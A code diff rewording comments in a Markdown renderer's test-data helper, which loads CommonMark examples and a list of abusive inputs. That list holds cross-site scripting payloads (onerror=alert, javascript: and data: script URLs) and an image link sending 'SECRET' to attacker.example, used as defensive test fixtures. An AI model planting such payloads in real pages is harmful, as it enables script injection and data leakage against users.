@@ -1,4 +1,4 @@
-// The texts that rendering is tried on: the project's own, and CommonMark's from npm.
+// The texts that the rendering tests use: the project's own, and CommonMark's from npm.
 import { createRequire } from "node:module";
 import { readFileSync } from "node:fs";
 
@@ -12,13 +12,13 @@ export function cases(name: string): Case[] {
   return JSON.parse(readFileSync(new URL(`../../tests/data/${name}`, import.meta.url), "utf8"));
 }
 
-/** CommonMark's own examples. */
+/** The examples of CommonMark's specification, in which → stands for a tab. */
 export function commonmark(): Case[] {
   const { tests } = createRequire(import.meta.url)("commonmark-spec");
   return tests.map((test: Case) => ({ markdown: test.markdown.replaceAll("→", "\t") }));
 }
 
-/** A few inputs that would leak or act, many things in each. */
+/** Texts that try to load from elsewhere or to run something, in many ways at once. */
 export const ABUSE: Case[] = [
   { class: "image", markdown: "![x](https://attacker.example/p.png?q=SECRET) <img src=https://attacker.example/q onerror=alert(1)>" },
   { class: "scheme", markdown: "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>" },
